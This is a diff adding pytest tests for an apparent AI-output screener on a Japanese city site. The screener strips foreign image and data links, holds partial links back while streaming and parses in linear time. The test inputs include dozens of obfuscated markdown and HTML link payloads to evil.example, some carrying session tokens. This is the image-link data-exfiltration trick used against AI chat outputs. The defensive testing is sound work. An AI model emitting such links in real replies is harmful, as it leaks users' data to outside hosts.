@@ -145,3 +145,109 @@ def test_a_value_across_the_hold_limit_is_screened_whole(offset: int, value: str
     st_ = OutputStream(_screen())
     out = "".join(st_.feed(text[i : i + 3]) for i in range(0, len(text), 3)) + st_.flush()
     assert value not in out and value.split("-")[-1] not in out.replace("〔", "")
+
+
+# ---------------------------------------------------------------------- link spellings
+
+
+@pytest.mark.parametrize(
+    "link",
+    [
+        "![x](HTTPS://EVIL.EXAMPLE/p.png)",
+        "![x](Https://evil.example/p.png)",
+        "![x](//evil.example/p.png)",
+        "![x](<//evil.example/p.png>)",
+        "![x](https:/evil.example/p.png)",
+        "![x](https:\\\\evil.example/p.png)",
+        "![x](https&#58;//evil.example/p.png)",
+        "![x](https&colon;//evil.example/p.png)",
+        "![x](&#104;ttps://evil.example/p.png)",
+        "![x](https:&#47;&#47;evil.example/p.png)",
+        "![x](https://evil.example/p.png 'title')",
+        "![x](https://evil.example/p.png (title))",
+        '<img src="HTTPS://evil.example/p.png">',
+        '<img src="//evil.example/p.png">',
+        '<img src="https&#58;//evil.example/p.png">',
+        "<img src=https&#x3a;&#x2f;&#x2f;evil.example/p.png>",
+        "[x](HTTPS://evil.example/c?session=abcdef123456)",
+        "[x](//evil.example/c?session=abcdef123456)",
+        "HTTPS://evil.example/c?session=abcdef123456",
+        "hTtP://evil.example/c?session=abcdef123456",
+        '<img src="a.png" srcset="b.png 1x, https://evil.example/b.png 2x">',
+        "<svg><image href='https://evil.example/p.png'/></svg>",
+        '<svg><image xlink:href="https://evil.example/p.png"/></svg>',
+        '<video poster="https://evil.example/p.png"></video>',
+        '<picture><source srcset="//evil.example/p.png"></picture>',
+        '<iframe src="https://evil.example/f"></iframe>',
+        "![x][1]\n\n[1]: https://evil.example/p.png",
+        "![x][ref]\n\n[ref]: <https://evil.example/p.png> 'title'",
+        "![a [b] c](https://evil.example/p.png)",
+        "![x\ny](https://evil.example/p.png)",
+        "![" + "a" * 1000 + "](https://evil.example/p.png)",
+    ],
+)
+def test_every_spelling_of_a_foreign_image_or_data_link_is_removed(link: str) -> None:
+    s = _screen(allowed_domains=("city.example.lg.jp",))
+    text, found = s.screen(f"ご案内です。{link} 以上。")
+    assert "evil.example" not in text.lower(), text
+    assert [f.detail for f in found if f.kind == "exfiltration"] == ["evil.example"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![相対](images/a.png)",
+        "![相対](/images/a.png)",
+        "[注](参考資料)",
+        "[x](#section-2)",
+        "[x](mailto:soudan@city.example.lg.jp)",
+        "![地図](HTTPS://WWW.CITY.EXAMPLE.LG.JP/map.png)",
+        "![地図](//www.city.example.lg.jp/map.png)",
+        '<img src="https://www.city.example.lg.jp/a.png?x=1&amp;y=2">',
+        "[案内](https://www.example.org/guide/ 'タイトル')",
+        '<img src="a.png" srcset="b.png 1x, c.png 2x" alt="図">',
+        "<video controls></video>",
+        "[1]: https://www.city.example.lg.jp/guide.html",
+        "[注]: 本文を参照",
+    ],
+)
+def test_relative_links_and_allowed_hosts_however_spelled_stay(text: str) -> None:
+    s = _screen(allowed_domains=("city.example.lg.jp",))
+    assert s.screen(text) == (text, [])
+
+
+def test_a_bare_url_inside_a_hostless_markdown_destination_is_still_read() -> None:
+    s = _screen()
+    text, found = s.screen("[x](foo,https://evil.example/c?session=abcdef123456)")
+    assert "evil.example" not in text and found[0].detail == "evil.example"
+
+
+@pytest.mark.parametrize(
+    "link",
+    ["![x](HTTPS://EVIL.EXAMPLE/p.png)", "![x](//evil.example/p.png)",
+     '<img src="https&#58;//evil.example/p.png">', "HTTPS://evil.example/c?session=abcdef123456 "],
+)  # fmt: skip
+def test_a_stream_holds_every_spelling_until_it_is_judged(link: str) -> None:
+    s = _screen()
+    for i in range(1, len(link)):
+        st_ = OutputStream(s)
+        got = st_.feed("はい。" + link[:i])
+        assert "evil" not in got.lower(), (i, got)
+    st_ = OutputStream(s)
+    assert "evil.example" not in (st_.feed(link) + st_.flush()).lower()
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["[x](" * 1000, "[x](a" * 1000, "[x]: " * 1000, "[" * 3000, "[a" * 2000, "![a [b] c" * 500],
+)
+def test_a_stream_of_link_beginnings_takes_linear_time(text: str) -> None:
+    import time
+
+    s = _screen(system_prompt_leak="off", new_personal="off")
+    t = time.perf_counter()
+    st_ = OutputStream(s)
+    for ch in text:
+        st_.feed(ch)
+    st_.flush()
+    assert time.perf_counter() - t < 5, text[:10]
